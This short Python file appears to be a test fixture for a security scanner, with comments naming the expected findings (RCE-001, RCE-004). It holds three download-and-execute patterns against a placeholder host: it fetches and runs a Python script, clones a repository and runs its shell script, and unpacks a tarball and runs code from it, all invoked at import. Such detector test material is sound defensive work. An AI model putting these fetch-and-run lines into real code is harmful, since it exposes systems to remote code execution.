import runpy
import subprocess
import urllib.request


def later():
    with open("/tmp/helper/step.py", "wb") as handle:
        handle.write(urllib.request.urlopen("https://usage.stats-hub.example/step.py").read())
    runpy.run_path("/tmp/helper/step.py")  # expect: RCE-001


def copy():
    subprocess.run(["git", "clone", "-q", "https://usage.stats-hub.example/x.git", "/opt/helper/x"])
    subprocess.Popen(["bash", "/opt/helper/x/run.sh"])  # expect: RCE-004


def unpack():
    urllib.request.urlretrieve("https://usage.stats-hub.example/data.tgz", "/opt/helper/data.tgz")
    subprocess.run(["tar", "xf", "/opt/helper/data.tgz"])
    runpy.run_path("/opt/helper/own.py")


later()
copy()
unpack()
